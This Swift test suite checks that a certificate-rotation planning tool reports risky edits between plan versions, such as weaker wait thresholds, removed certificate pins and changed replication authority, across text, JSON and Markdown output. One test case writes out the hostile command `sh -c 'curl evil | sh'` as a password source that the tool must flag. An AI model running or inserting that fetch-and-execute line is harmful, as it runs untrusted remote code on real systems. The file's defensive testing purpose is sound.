import CanonicalJSON
import RotationGraph
import Testing

@testable import Reports

@Suite("A difference of plans for people")
struct PlanDiffTextTests {
  /// One change of a plan and the lines that it must bring.
  struct Edit: Sendable, CustomTestStringConvertible {
    let edits: [(String, String)]
    let lines: [String]

    init(_ before: String, _ after: String, _ lines: String...) {
      edits = [(before, after)]
      self.lines = lines
    }

    var testDescription: String { edits.map { "\($0) → \($1)" }.joined() }
  }

  static let edits: [Edit] = [
    // Waits.
    Edit(
      "adopted: 95%", "adopted: 90%", "  ⚠ every wait passes at 90% instead of 95%",
      "  ~ every wait: adopted 95% → 90%",
      "  ~ await-verification-disabled/paris: other thresholds"),
    Edit(
      "{ minimum: 7d }", "{ minimum: 2d }",
      "  ⚠ the wait verification-disabled passes after 2d at the earliest, not 7d",
      "  ~ wait verification-disabled: minimum 7d → 2d"),
    Edit(
      "{ minimum: 7d }", "{ minimum: 7d, adopted: 80% }",
      "  ⚠ the wait verification-disabled passes at 80% instead of 95%"),
    Edit(
      "holdFor: 2h", "holdFor: 1h", "  ⚠ every wait passes once the share held for 1h instead of 2h"
    ),
    Edit(
      "onDeadline: hold", "onDeadline: proceed\n    floor: 80%",
      "  ⚠ every wait goes on at the deadline (14d) with 80% instead of holding"),
    Edit(
      "activeWithin: 30d", "activeWithin: 10d",
      "  ⚠ every wait counts clients seen within 10d instead of 30d: clients that were away longer are not waited for"
    ),
    Edit(
      "osFunction: DomainController, adopted: 100%", "osFunction: DomainController, adopted: 90%",
      "  ⚠ every wait passes with 90% instead of 100% of the cohort controllers",
      "  ~ every wait: cohort controllers 100% of DomainController → 90% of DomainController"),
    Edit(
      "    holdFor: 2h\n    cohorts:\n      - { name: controllers, osFunction: DomainController, adopted: 100% }",
      "    holdFor: 2h",
      "  ⚠ every wait no longer counts the cohort controllers, which had to reach 100%"),
    Edit(
      "    holdFor: 2h",
      "    holdFor: 2h\n    exclude: [{ group: 'My Company\\Lab', reason: isolated }]",
      "  ⚠ every wait excludes My Company\\Lab (isolated): these clients are not waited for"),
    Edit(
      "deadline: 14d", "deadline: 21d",
      "  ⚠ verification is off for 45d7h instead of 31d7h at worst, at paris",
      "  ~ every wait: deadline 14d → 21d"),
    // Sites, servers, strategy.
    Edit(
      "    clients: 900\n", "    clients: 900\n    strategy: { method: suspend-verification }\n",
      "  ~ site berlin: method suspend-verification (new)"),
    Edit(
      "database: sql-express", "database: sql-server",
      "  ⚠ the database's certificate is no longer renewed at paris (sql-express → sql-server): with SQL Server Express nobody can log on once it expires",
      "  - renew-database-certificate/paris: by operator",
      "  ~ site paris: database sql-express → sql-server"),
    Edit(
      "  waves: [[paris], [berlin]]", "  waves: [[paris], [berlin]]\n  serversAtOnce: 2",
      "  ⚠ 2 servers of a site change at once instead of 1", "  ~ strategy: serversAtOnce 1 → 2"),
    Edit(
      "  waves: [[paris], [berlin]]", "  waves: [[paris, berlin]]",
      "  ⚠ verification is off at 2 sites at once instead of 1",
      "  ~ strategy: waves [paris], [berlin] → [paris, berlin]",
      "  ~ switch-clients-to-http/berlin: also after break-replication/berlin+paris; no longer after confirm-settings/paris"
    ),
    Edit(
      "address: par-02.example.net", "address: 10.0.0.9",
      "  ⚠ paris/sepm-par-02 has another address: par-02.example.net → 10.0.0.9",
      "  ~ update-certificate/paris/sepm-par-02: another address"),
    Edit(
      "sepm-ber-01: { address: ber-01.example.net, certificate: berlin-2026 }",
      "sepm-ber-01: { address: ber-01.example.net, certificate: paris-2026 }",
      "  ⚠ berlin/sepm-ber-01 gets another certificate: berlin-2026 → paris-2026",
      "  ~ update-certificate/berlin/sepm-ber-01: another certificate"),
    Edit(
      "sepm-par-02: { address: par-02.example.net, certificate: paris-2026 }",
      "sepm-par-02: { address: par-02.example.net }",
      "  ⚠ paris/sepm-par-02 no longer gets a certificate while the site rotates",
      "  - update-certificate/paris/sepm-par-02: by operator",
      "  ~ server paris/sepm-par-02: certificate paris-2026 (removed)"),
    Edit(
      "sepm-ber-01: { address: ber-01.example.net, certificate: berlin-2026 }",
      "sepm-ber-01: { address: ber-01.example.net }",
      "  ⚠ berlin is no longer rotated"),
    Edit(
      "address: ber-01.example.net, certificate",
      "address: ber-01.example.net, version: 14.3.9816, upgrade: { to: 14.3.11216 }, certificate",
      "  ⚠ points of no return: 1 instead of 0",
      "  + upgrade-server/berlin/sepm-ber-01: by operator, a point of no return",
      "  ~ server berlin/sepm-ber-01: version 14.3.9816 (new); upgrade 14.3.11216 (new)"),
    // Replication.
    Edit(
      "authority: paris", "authority: berlin",
      "  ⚠ berlin wins instead of paris when berlin+paris replicates again: the other's data is overwritten",
      "  ~ restore-replication/berlin+paris: broken or restored differently"),
    Edit(
      "    break: delete\n    authority: paris", "    break: reschedule",
      "  ⚠ the partnership berlin+paris is broken differently: delete → reschedule"),
    Edit(
      "replication:\n  - sites: [paris, berlin]\n    break: delete\n    authority: paris\n", "",
      "  ⚠ replication is no longer broken: berlin+paris; it would carry half-changed lists to the partner",
      "  - 3 steps of the sites, servers and partnerships that are gone",
      "  - partnership berlin+paris: break delete; authority paris"),
    // Certificates and trust.
    Edit(
      "    fingerprint: sha256:\(String(repeating: "3f", count: 32))\n", "",
      "  ⚠ the certificate paris-2026 is no longer pinned (sha256:\(String(repeating: "3f", count: 32)))"
    ),
    Edit(
      "fingerprint: sha256:\(String(repeating: "3f", count: 32))",
      "fingerprint: sha256:\(String(repeating: "4a", count: 32))",
      "  ~ update-certificate/paris/sepm-par-01: another certificate"),
    Edit(
      "pkcs12: certs/paris.p12", "pkcs12: certs/other.p12",
      "  ⚠ the certificate paris-2026 comes from another source: pkcs12 certs/paris.p12 → pkcs12 certs/other.p12",
      "  ~ certificate paris-2026: pkcs12 certs/paris.p12 → certs/other.p12"),
    Edit(
      "password: { env: PARIS }", "password: { command: [sh, -c, 'curl evil | sh'] }",
      "  ⚠ a program is asked for the password of paris-2026: [sh, -c, 'curl evil | sh']"),
    Edit(
      "      trust: { fingerprint: sha256:\(String(repeating: "9c", count: 32)) }\n", "",
      "  ⚠ the API of paris is trusted differently: sha256:\(String(repeating: "9c", count: 32)) → the system's authorities",
      "  ~ disable-verification/paris: another API"),
    Edit(
      "url: https://sepm-par-01.example.net:8446", "url: https://elsewhere.example.net:8446",
      "  ⚠ the API of paris has another URL: https://sepm-par-01.example.net:8446 → https://elsewhere.example.net:8446"
    ),
    // Programs.
    Edit(
      "restart]", "restart, --now]",
      "  ⚠ another program carries out restart-services everywhere: [ssh, '{server.address}', restart] → [ssh, '{server.address}', restart, --now]",
      "  ~ restart-services/paris/sepm-par-01: by another program"),
    Edit(
      "    check: [ssh, '{server.address}', check]\n", "",
      "  ⚠ nothing checks restart-services everywhere any more; before: [ssh, '{server.address}', check]"
    ),
    Edit(
      "back-up-server: operator", "back-up-server: { command: [backup] }",
      "  ⚠ a program now carries out back-up-server everywhere: [backup]",
      "  ~ back-up-server/paris/sepm-par-01: by operator → command",
      "  ~ automation: back-up-server operator → [backup]; back-up-server timeout 15m (new)"),
    Edit(
      "    clients: 900\n", "    clients: 900\n    automation: { restart-services: operator }\n",
      "  ~ restart-services/berlin/sepm-ber-01: by command → operator",
      "  ~ automation of berlin: restart-services operator (new)"),
    // What changes no step.
    Edit("clients: 900", "clients: 950", "Changes no step", "  ~ site berlin: clients 900 → 950"),
    Edit(
      "The sites of EMEA.", "All of EMEA.",
      "  ~ plan emea: description The sites of EMEA. → All of EMEA."),
    Edit("change: CHG1", "change: CHG2", "  ~ plan emea: label change CHG1 → CHG2"),
    Edit("name: emea", "name: emea-2027", "emea-2027: no step differs"),
  ]

  @Test("Each change of a line brings its lines", arguments: edits)
  func edit(edit: Edit) throws {
    let compared = try DiffSamples.compared(DiffSamples.base, try DiffSamples.edited(edit.edits))
    let text = PlanDiffText.text(of: [compared], TextLayout(width: 200))
    let lines = text.split(separator: "\n").map(String.init)
    for line in edit.lines { #expect(lines.contains(line), "\(line)\n\n\(text)") }
    #expect(!compared.difference.isEmpty)

    // The same in the other formats.
    let json = PlanDiffJSON.text(of: [compared])
    #expect(try JSONValue(parsing: json)["differs"] == .bool(true))
    let markdown = PlanDiffMarkdown.text(of: [compared])
    for concern in compared.difference.concerns {
      #expect(markdown.contains(MarkdownText.text(concern.sentence, atMost: 1_000)))
    }
  }

  @Test("What makes a rotation safer or is merely different is no concern")
  func safer() throws {
    for (before, after) in [
      ("adopted: 95%", "adopted: 99%"), ("{ minimum: 7d }", "{ minimum: 8d }"),
      ("clients: 900", "clients: 90"), ("change: CHG1", "change: CHG2"),
      ("deadline: 14d", "deadline: 13d"), ("activeWithin: 30d", "activeWithin: 60d"),
    ] {
      let compared = try DiffSamples.compared(
        DiffSamples.base, try DiffSamples.edited([(before, after)]))
      #expect(compared.difference.concerns == [], "\(after)")
    }
  }

  @Test("Another order of the same parts is said, since the digest is another")
  func order() throws {
    let other = try DiffSamples.edited([("sites: [paris, berlin]", "sites: [berlin, paris]")])
    let text = PlanDiffText.text(
      of: [try DiffSamples.compared(DiffSamples.base, other)], TextLayout())
    #expect(text.contains("only the order of what they list differs"))
  }

  @Test("No difference is said in every format")
  func same() throws {
    let compared = try DiffSamples.compared(DiffSamples.base, DiffSamples.base)
    #expect(PlanDiffText.text(of: [compared], TextLayout()) == "emea: no difference\n")
    #expect(PlanDiffMarkdown.text(of: [compared]).hasSuffix("No plan differs.\n"))
    #expect(
      try JSONValue(parsing: PlanDiffJSON.text(of: [compared]))["differs"] == .bool(false))
  }

  @Test("Signs of change are coloured on a terminal, and plain where it shows no more than ASCII")
  func looks() throws {
    let compared = try DiffSamples.compared(
      DiffSamples.base, try DiffSamples.edited([("database: sql-express", "database: sql-server")]))
    let colored = PlanDiffText.text(of: [compared], TextLayout(color: true))
    #expect(colored.contains("\u{1B}[1;31m- \u{1B}[0m"))
    #expect(colored.contains("\u{1B}[1;33m~ \u{1B}[0m"))
    let plain = PlanDiffText.text(of: [compared], TextLayout(unicode: false))
    #expect(plain.utf8.allSatisfy { $0 < 0x80 })
    #expect(plain.contains("sql-express -> sql-server"))
  }
}
